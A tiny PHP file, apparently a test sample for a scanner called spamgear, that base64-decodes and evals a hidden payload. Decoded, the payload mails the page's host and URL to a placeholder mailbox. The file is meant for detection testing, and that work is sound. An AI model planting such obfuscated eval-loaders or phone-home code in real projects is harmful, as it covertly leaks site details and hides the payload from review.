<?php
// spamgear test sample: a packed phone-home: the decoded code mails the
// address of the page it runs on to a fixed mailbox.
$packed = "JHdoZXJlID0gJF9TRVJWRVJbIkhUVFBfSE9TVCJdIC4gJF9TRVJWRVJbIlJFUVVFU1RfVVJJIl07IEBtYWlsKCJjb2xsZWN0b3JAZXhhbXBsZS5pbnZhbGlkIiwgIm5ldyBob3N0IiwgInNwYW1nZWFyIHRlc3Qgc2FtcGxlOiAiIC4gJHdoZXJlKTs=";
eval(base64_decode($packed));
